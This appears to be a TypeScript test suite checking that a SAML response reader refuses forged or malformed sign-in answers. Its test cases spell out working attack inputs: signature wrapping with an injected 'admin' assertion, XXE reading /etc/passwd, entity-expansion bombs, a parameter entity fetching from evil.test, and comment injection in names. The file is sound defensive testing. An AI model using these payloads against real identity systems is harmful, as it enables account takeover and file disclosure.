import assert from "node:assert/strict";
import { test } from "node:test";
import { ssoFailures } from "@lyss/contracts/failures/sso.ts";
import { isFailure } from "@lyss/kit/errors/failure.ts";
import { createTestCertificate } from "@lyss/kit/testing/certificate.ts";
import type { SamlConnection } from "../model.ts";
import { parseCertificate, toBase64 } from "./certificate.ts";
import {
  type AnswerParts,
  signAssertion,
  signResponse,
  toAssertionXml,
  toAttributeXml,
  toResponseXml,
  wrapSignature,
} from "./forged-answers.ts";
import { readSamlAnswer } from "./read-answer.ts";
import { serviceProviderOf } from "./service-provider.ts";

const nowMs = Date.parse("2026-06-01T12:00:00Z");
const publicUrl = "https://lyss.test";
const requestId = "_0123456789";
const [idp, next, stranger] = [createTestCertificate(), createTestCertificate(), createTestCertificate()];
const connection: SamlConnection = {
  ...{ connectionId: "sso_a", tenantId: "ten_a", name: "Acme", isEnabled: true, version: 1 },
  ...{ createdAt: new Date(nowMs), updatedAt: new Date(nowMs) },
  party: {
    ...{ kind: "saml", entityId: "https://idp.test/saml", ssoUrl: "https://idp.test/sso" },
    certificates: [idp, next].flatMap(({ certificate }) => toBase64(parseCertificate(certificate)) ?? []),
  },
  rules: {
    ...{
      domains: [],
      isEnforced: false,
      mayCreate: true,
      defaultRole: "member",
      allowedDomains: [],
      groupMapping: [],
      roleMapping: [],
    },
    claims: { email: "mail", name: "cn", groups: "memberOf" },
  },
};
const { entityId: audience, acsUrl } = serviceProviderOf(publicUrl, connection.connectionId);
const { privateKey } = idp;
const inMinutes = (minutes: number) => new Date(nowMs + minutes * 60_000).toISOString();
const persistent = "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent";

const good: AnswerParts = {
  ...{ entityId: connection.party.entityId, audience, acsUrl, destination: acsUrl, recipient: acsUrl },
  ...{ requestId, confirmedRequestId: requestId, status: "Success", subject: "ann", format: persistent },
  ...{ notBefore: inMinutes(-1), notOnOrAfter: inMinutes(5), sessionNotOnOrAfter: inMinutes(60) },
  attributes:
    toAttributeXml("mail", "ann@example.com") +
    toAttributeXml("cn", "Ann") +
    toAttributeXml("memberOf", "read", "write") +
    toAttributeXml("email_verified", "true"),
  ...{ authnStatement: true, assertionId: "_a1" },
};
const signed = (parts: Partial<AnswerParts> = {}) =>
  signAssertion(toResponseXml({ ...good, ...parts }), { privateKey });
const read = (xml: string, by = connection) =>
  readSamlAnswer(by, Buffer.from(xml).toString("base64"), { publicUrl, requestId, nowMs });

/** Why an answer is refused; undefined when it is taken. */
async function refusalOf(xml: string): Promise<string | undefined> {
  try {
    await read(xml);
    return undefined;
  } catch (err) {
    if (!isFailure(err, ssoFailures.answer_refused) && !isFailure(err, ssoFailures.provider_refused)) throw err;
    return String(err.details["reason"]);
  }
}

test("an answer that is signed as it must be tells who came, by any of the connection's keys", async () => {
  const wanted = {
    ...{ subject: "ann", email: "ann@example.com", isEmailVerified: true, name: "Ann", groups: ["read", "write"] },
    ...{ providerSession: "s1", notAfterMs: nowMs + 3_600_000 },
  };
  const answers = [
    signed(),
    signResponse(signed(), { privateKey }),
    signAssertion(toResponseXml(good), { privateKey: next.privateKey, hash: "sha512" }),
    `<?xml version="1.0" encoding="UTF-8"?>\n${signed()}`,
  ];
  for (const xml of answers) {
    const { assertion, assertionId, goodUntilMs } = await read(xml);
    assert.deepEqual(assertion, wanted);
    assert.deepEqual([assertionId, goodUntilMs], ["_a1", nowMs + 6 * 60_000]);
  }
  const byAddress = signed({
    subject: "bob@example.com",
    format: "urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress",
    attributes: "",
  });
  const { assertion } = await read(byAddress);
  assert.deepEqual([assertion.email, assertion.isEmailVerified, assertion.groups], ["bob@example.com", false, []]);
  assert.equal(
    await refusalOf(signed({ notBefore: inMinutes(0.9) })),
    undefined,
    "a clock that is less than a minute ahead",
  );
});

test("an answer for somebody else, at another time, or to another request is refused for what it is", async () => {
  const evil = "https://evil.test";
  const cases: readonly (readonly [RegExp, Partial<AnswerParts>])[] = [
    [/somebody else/, { audience: evil }],
    [/somebody else/, { audience: undefined }],
    [/somebody else/, { destination: evil }],
    [/somebody else/, { recipient: evil }],
    [/somebody else/, { recipient: undefined }],
    [/somebody else/, { recipient: `${acsUrl}/` }],
    [/another issuer/, { entityId: evil }],
    [/this sign-in/, { requestId: "_another" }],
    [/this sign-in/, { requestId: undefined }],
    [/this sign-in/, { confirmedRequestId: "_another" }],
    [/this sign-in/, { confirmedRequestId: undefined }],
    [/expired/, { notOnOrAfter: inMinutes(-1) }],
    [/expired/, { notOnOrAfter: undefined }],
    [/expired/, { notBefore: inMinutes(1.1) }],
    [/expired/, { sessionNotOnOrAfter: inMinutes(0) }],
    [/expected form/, { notOnOrAfter: "2030-01-01" }],
    [/expected form/, { sessionNotOnOrAfter: "tomorrow" }],
    [/expected form/, { authnStatement: false }],
    [/expected form/, { assertionId: "_a b" }],
    [/about/, { subject: "" }],
    [/about/, { subject: "a".repeat(256) }],
    [/anew each time/, { format: "urn:oasis:names:tc:SAML:2.0:nameid-format:transient" }],
    [/^AuthnFailed$/, { status: "AuthnFailed" }],
    [/^error$/, { status: "&lt;script&gt;" }],
  ];
  for (const [reason, parts] of cases)
    assert.match((await refusalOf(signed(parts))) ?? "", reason, JSON.stringify(parts));
});

test("an answer that is not signed, or by another, over something else, or weakly, is refused", async () => {
  const plain = toResponseXml(good);
  const strangers = { privateKey: stranger.privateKey };
  const whole = "http://www.w3.org/2000/09/xmldsig#enveloped-signature";
  const cases: Readonly<Record<string, string>> = {
    "no signature": plain,
    "the response alone": signResponse(plain, { privateKey }),
    "a stranger": signAssertion(plain, strangers),
    "a stranger, whose response is signed well": signResponse(signAssertion(plain, strangers), { privateKey }),
    "SHA-1": signAssertion(plain, { privateKey, hash: "sha1" }),
    "other canonicalisation": signAssertion(plain, {
      privateKey,
      transforms: [whole, "http://www.w3.org/TR/2001/REC-xml-c14n-20010315"],
    }),
    "a transform too few": signAssertion(plain, { privateKey, transforms: [whole] }),
    "another subject": signed().replace(">ann<", ">admin<"),
    "another attribute": signed().replace("ann@example.com", "admin@example.com"),
    "an attribute more": signed().replace(
      "</saml:AttributeStatement>",
      `${toAttributeXml("x", "y")}</saml:AttributeStatement>`,
    ),
    "an HMAC by the certificate": signed().replace(
      "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
      "http://www.w3.org/2000/09/xmldsig#hmac-sha1",
    ),
    "no digest": signed().replace(/<DigestValue>[^<]*/, "<DigestValue>"),
    "all of the document": signed().replace('URI="#_a1"', 'URI=""'),
    "an altered signature": signed().replace(/<SignatureValue>..../, "<SignatureValue>AAAA"),
  };
  for (const [name, xml] of Object.entries(cases)) assert.match((await refusalOf(xml)) ?? "taken", /signed|form/, name);
});

test("I14 SAML no wrapping of a signed assertion or response lets another person in", async () => {
  const evil = toAssertionXml({ ...good, subject: "admin", assertionId: "_evil" });
  for (const base of [
    signed(),
    signResponse(signed(), { privateKey }),
    signResponse(toResponseXml(good), { privateKey }),
  ]) {
    for (const [name, xml] of Object.entries(wrapSignature(base, evil))) {
      assert.notEqual(xml, base, name);
      assert.match((await refusalOf(xml)) ?? "taken", /signed|form/, name);
    }
  }
});

test("I14 SAML entities, DTDs, comments that cut a name, encryption and endless documents are refused unread", async () => {
  const doctype = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>';
  const laughs = '<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>';
  const deep = "<a>".repeat(60_000);
  const cases: Readonly<Record<string, string>> = {
    "an external entity": doctype + signed().replace(">ann<", ">&x;<"),
    "many laughs": laughs + signed().replace(">Ann<", ">&c;<"),
    "a parameter entity": `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.test/">%p;]>${signed()}`,
    "a DTD in lower case": `<!doctype r>${signed()}`,
    "a DTD behind a declaration": `<?xml version="1.0"?>\n<!DOCTYPE r>${signed()}`,
    "an entity that nobody has declared": signed().replace(">ann<", ">&admin;<"),
    "a comment in a name": signed({ subject: "admin<!-- -->.evil" }),
    "a comment in a name, set later": signed({ subject: "admin.evil" }).replace("admin.evil", "admin<!-- -->.evil"),
    "a CDATA section": signed().replace(">ann<", "><![CDATA[ann]]><"),
    "an instruction": signed().replace(">ann<", "><?x y?>ann<"),
    "an element in a name": signed({ subject: "ad<saml:b/>min" }),
    "two names": signed({ attributes: "</saml:AttributeStatement><saml:Subject/><saml:AttributeStatement>" }),
    deep: `${deep}`,
    "deep, and whole": signed({ attributes: `${"<a>".repeat(4_000)}${"</a>".repeat(4_000)}` }),
    "too large": signed({ attributes: toAttributeXml("x", "y".repeat(300_000)) }),
    "no document": "ann",
    "half a document": signed().slice(0, -40),
    "another document": toAssertionXml(good),
    empty: "",
  };
  for (const [name, xml] of Object.entries(cases))
    assert.match((await refusalOf(xml)) ?? "taken", /form|signed|about/, name);
  const secret = '<saml:EncryptedAssertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"/>';
  assert.match((await refusalOf(toResponseXml(good, secret))) ?? "", /encrypted, which is not supported/);
  const notText = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(signed(), "utf16le")]).toString("base64");
  await assert.rejects(readSamlAnswer(connection, notText, { publicUrl, requestId, nowMs }), (err) =>
    isFailure(err, ssoFailures.answer_refused),
  );
});
